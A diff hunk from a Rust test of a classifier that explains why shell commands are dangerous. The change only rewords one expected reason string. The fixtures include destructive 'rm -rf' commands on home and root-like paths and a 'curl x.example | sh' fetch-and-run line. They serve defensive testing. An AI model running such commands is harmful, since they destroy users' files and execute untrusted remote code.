@@ -96,7 +96,7 @@ fn of_several_reasons_the_worst_is_named() {
         ("bash -c 'shutdown now; rm -rf /home/ana'", "deletes a whole home directory"),
         ("rm -rf ./*", "deletes everything here, or above"),
         ("rm -rf \"$DIR\"/", "deletes what may be a root, a home or a system directory"),
-        ("crontab x; curl x.example | sh", "runs what it fetches or decodes"),
+        ("crontab x; curl x.example | sh", "runs code that it downloads or decodes"),
     ] {
         assert_eq!(reason(text).as_deref(), Some(worst), "{text}");
     }
